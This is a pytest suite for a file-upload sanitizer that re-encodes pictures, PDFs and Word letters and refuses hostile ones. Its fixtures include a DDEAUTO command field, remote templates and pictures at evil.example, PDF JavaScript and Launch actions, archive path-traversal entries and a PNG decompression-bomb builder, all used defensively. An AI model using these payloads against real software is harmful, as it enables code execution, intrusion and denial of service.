"""Uploads are judged by their content and written anew; hostile ones are refused with the reason."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest
from PIL import Image

from ercms.inspection import letters, pdf, pictures
from ercms.inspection.kinds import (
    DOCX,
    ENDINGS,
    JPEG,
    PAGE_LIMIT,
    PDF,
    PIXEL_LIMITS,
    PNG,
    Refusal,
    Refused,
    Result,
    kind_of,
)
from tests.factories import files
from tests.factories.files import HEIC, WORDS, docx, picture, written


def inspect(content: bytes, name: str) -> Result:
    """Do in this process what the child does."""
    media_type = kind_of(content[:64], name)
    work = {PDF: pdf.clean, DOCX: letters.clean}.get(media_type, pictures.clean)
    return work(content, media_type=media_type)


def reason(content: bytes, name: str) -> Refusal:
    with pytest.raises(Refused) as refused:
        inspect(content, name)
    return refused.value.refusal


@pytest.mark.parametrize(("kind", "name", "media_type"), [
    ("JPEG", "pass.jpg", JPEG), ("JPEG", "PASS.JPEG", JPEG), ("PNG", "scan.png", PNG),
])  # fmt: skip
def test_a_picture_is_encoded_anew(kind: str, name: str, media_type: str) -> None:
    clean = inspect(picture(kind), name)
    assert (clean.media_type, clean.pages) == (media_type, 1)
    with Image.open(BytesIO(clean.content)) as opened:
        assert opened.size == (32, 48)


def test_a_picture_of_a_phone_becomes_a_jpeg_without_its_maker() -> None:
    assert b"Qasimova" in HEIC
    clean = inspect(HEIC, "IMG_0001.HEIC")
    assert clean.media_type == JPEG
    assert b"Qasimova" not in clean.content
    with Image.open(BytesIO(clean.content)) as opened:
        assert opened.size == (64, 48)
        assert opened.getpixel((20, 20))[0] > 180 > opened.getpixel((50, 20))[0]


def test_what_a_camera_writes_into_a_picture_is_gone() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Kamera der Leyla Qasimova"
    clean = inspect(picture(exif=exif), "photo.jpg")
    assert b"Qasimova" not in clean.content
    with Image.open(BytesIO(clean.content)) as opened:
        assert not dict(opened.getexif())


def test_a_picture_stands_upright_after_its_orientation_is_gone() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    clean = inspect(picture(exif=exif), "photo.jpg")
    with Image.open(BytesIO(clean.content)) as opened:
        assert opened.size == (48, 32)


def test_what_hangs_behind_a_picture_is_gone() -> None:
    clean = inspect(picture() + b"<script>alert(1)</script>", "photo.jpg")
    assert b"script" not in clean.content


@pytest.mark.parametrize(("content", "name", "refusal"), [
    (b"MZ\x90\x00", "pass.exe", Refusal.WRONG_KIND),
    (b"<svg onload='x'/>", "pass.svg", Refusal.WRONG_KIND),
    (b"MZ\x90\x00", "pass.pdf", Refusal.NOT_WHAT_IT_SAYS),
    (picture("PNG"), "pass.jpg", Refusal.NOT_WHAT_IT_SAYS),
    (picture(), "pass.heic", Refusal.NOT_WHAT_IT_SAYS),
    (picture(), "pass.pdf", Refusal.NOT_WHAT_IT_SAYS),
    (picture()[:200], "pass.jpg", Refusal.DAMAGED),
    (picture("PNG")[:60], "pass.png", Refusal.DAMAGED),
    (HEIC[:400], "pass.heic", Refusal.DAMAGED),
    (picture() + docx(), "pass.jpg", Refusal.TWO_IN_ONE),
    (picture() + b"%PDF-1.7", "pass.jpg", Refusal.TWO_IN_ONE),
    (written(files.pdf()) + docx(), "pass.pdf", Refusal.TWO_IN_ONE),
    (b"%PDF-1.7\nnothing", "pass.pdf", Refusal.DAMAGED),
    (b"PK\x03\x04 not an archive", "letter.docx", Refusal.DAMAGED),
])  # fmt: skip
def test_a_hostile_or_broken_file_is_refused_with_the_reason(content: bytes, name: str, refusal: Refusal) -> None:
    assert reason(content, name) is refusal


@pytest.mark.parametrize("side", [5_000, 12_000, 30_000])
def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_decoded(side: int) -> None:
    assert side * side > PIXEL_LIMITS[PNG]
    assert reason(png_bomb(side), "pass.png") is Refusal.TOO_MANY_PIXELS


def png_bomb(side: int) -> bytes:
    """Return a PNG that says to be a large square, and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    return start + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def test_a_document_with_too_many_pages_is_refused() -> None:
    assert reason(written(files.pdf(PAGE_LIMIT + 1)), "file.pdf") is Refusal.TOO_MANY_PAGES


def test_a_document_behind_a_password_is_refused() -> None:
    locked = written(files.pdf(), encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert reason(locked, "file.pdf") is Refusal.LOCKED


def test_a_pdf_keeps_its_pages_and_loses_everything_that_acts() -> None:
    document = files.pdf(2)
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    document.Root.OpenAction = script
    document.Root.AA = pikepdf.Dictionary(WC=script)
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.String("<xdp/>"))
    document.attachments["program.exe"] = b"MZ"
    document.docinfo["/Author"] = "Leyla Qasimova"
    page = document.pages[0].obj
    page["/AA"] = pikepdf.Dictionary(O=script)
    drawn = document.make_stream(b"q Q", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 1, 1])
    drawn.Metadata = document.make_stream(b"<xmp>Leyla Qasimova</xmp>")
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X1=drawn))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Square, Rect=[0, 0, 9, 9], AA=script)
    page["/Annots"] = pikepdf.Array([link, note])
    clean = inspect(written(document), "file.pdf")
    assert clean.pages == 2
    with pikepdf.open(BytesIO(clean.content)) as opened:
        assert len(opened.pages) == 2
        assert set(opened.Root.keys()) <= {"/Type", "/Pages"}
        assert "/AA" not in opened.pages[0].obj
        assert "/Metadata" not in opened.pages[0].obj.Resources.XObject.X1
        assert [str(a.Subtype) for a in opened.pages[0].obj["/Annots"]] == ["/Square"]
        assert all("/AA" not in a for a in opened.pages[0].obj["/Annots"])
    for trace in (b"JavaScript", b"alert", b"MZ", b"calc.exe", b"xdp", b"Qasimova"):
        assert trace not in clean.content


def test_a_letter_keeps_its_text_and_loses_its_author() -> None:
    body = files.letter("Dear colleague").replace(b"<w:p>", b'<w:p><w:ins w:author="Leyla Qasimova"/>')
    clean = inspect(docx(word__document_xml=b"", **{"word__document.xml": body}), "letter.docx")
    assert (clean.media_type, clean.pages) == (DOCX, None)
    with zipfile.ZipFile(BytesIO(clean.content)) as archive:
        assert b"Dear colleague" in archive.read("word/document.xml")
        for part in ("word/document.xml", "docProps/core.xml"):
            assert b"Qasimova" not in archive.read(part)


def test_a_letter_reaches_nothing_outside() -> None:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
        b'TargetMode="External"/><Relationship Id="r2" Type="http://x/image" Target="media/a.png"/></Relationships>'
    )
    clean = inspect(docx(**{"word/_rels/document.xml.rels": relations}), "letter.docx")
    with zipfile.ZipFile(BytesIO(clean.content)) as archive:
        kept = archive.read("word/_rels/document.xml.rels")
    assert b"evil" not in kept
    assert b"media/a.png" in kept


def field(code: str) -> bytes:
    half = len(code) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    return f'<w:document xmlns:w="{WORDS}"><w:body><w:p>{runs}</w:p></w:body></w:document>'.encode()


@pytest.mark.parametrize("parts", [
    {"word/vbaProject.bin": b"x"},
    {"word/embeddings/oleObject1.bin": b"x"},
    {"word/activeX/a.xml": b"<x/>"},
    {"word/afchunk1.htm": b"<x/>"},
    {"word/document.xml": field(' DDEAUTO c:\\\\cmd "/c calc" ')},
    {"word/document.xml": field(' INCLUDEPICTURE "https://evil.example/a" ')},
    {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&amp;</x>'},
    {"word/_rels/document.xml.rels": b'<R><Relationship Type="http://x/oleObject" Target="a.bin"/></R>'},
    {"[Content_Types].xml": b'<x:Types xmlns:x="u"><O ContentType="ms-word.document.macroEnabled"/></x:Types>'},
])  # fmt: skip
def test_a_letter_with_programs_in_it_is_refused(parts: dict[str, bytes]) -> None:
    assert reason(docx(**parts), "letter.docx") is Refusal.ACTIVE


def test_a_field_that_only_counts_pages_is_no_program() -> None:
    assert inspect(docx(**{"word/document.xml": field(" PAGE \\* MERGEFORMAT ")}), "letter.docx").media_type == DOCX


def test_another_archive_is_no_letter() -> None:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("sheet.xml", b"")
    assert reason(target.getvalue(), "letter.docx") is Refusal.NOT_WHAT_IT_SAYS


@pytest.mark.parametrize("path", ["../../etc/cron.d/x", "/etc/passwd", "word\\..\\x"])
def test_a_path_in_an_archive_is_refused(path: str) -> None:
    assert reason(docx(**{path: b"x"}), "letter.docx") is Refusal.DAMAGED


def test_a_letter_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(letters, "_UNPACKED_LIMIT", 2000)
    assert reason(docx(word__media=b"\0" * 3000), "letter.docx") is Refusal.TOO_HEAVY


def test_a_letter_can_be_read_without_being_opened() -> None:
    clean = inspect(docx(**{"word/document.xml": files.letter("First line", "Second &amp; last")}), "letter.docx")
    assert letters.words(clean.content, media_type=DOCX).content.decode().split("\n") == [
        "First line", "Second & last"
    ]  # fmt: skip


def test_every_kind_that_is_stored_has_an_ending() -> None:
    assert set(ENDINGS.values()) == {"pdf", "jpg", "png", "docx"}
